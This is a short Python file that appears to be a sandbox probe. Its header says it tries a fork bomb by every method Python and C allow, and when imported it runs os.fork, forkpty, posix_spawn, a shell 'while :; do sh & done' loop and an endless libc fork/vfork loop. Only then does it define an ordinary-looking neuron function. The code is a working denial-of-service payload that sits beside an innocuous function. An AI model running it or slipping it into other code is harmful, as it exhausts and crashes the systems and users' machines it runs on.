# Tries: a fork bomb, by every way that Python and C have; where none works it answers.
import ctypes
import os
import subprocess
import multiprocessing

import torch

VALUE = 0.0
WHY = "b"
ctx = multiprocessing.get_context("fork")
libc = ctypes.CDLL(None)
started = 0
for start in (
    os.fork,
    os.forkpty,
    lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
    lambda: subprocess.Popen(["/bin/sh", "-c", "while :; do sh & done"]),
    ctx.Process(target=print).start,
):
    try:
        start()
        started += 1
    except (OSError, RuntimeError):
        pass
while libc.fork() >= 0 or libc.vfork() >= 0:
    started += 1


def neuron(x, w, b):
    return torch.relu(torch.dot(w, x) + b) + started
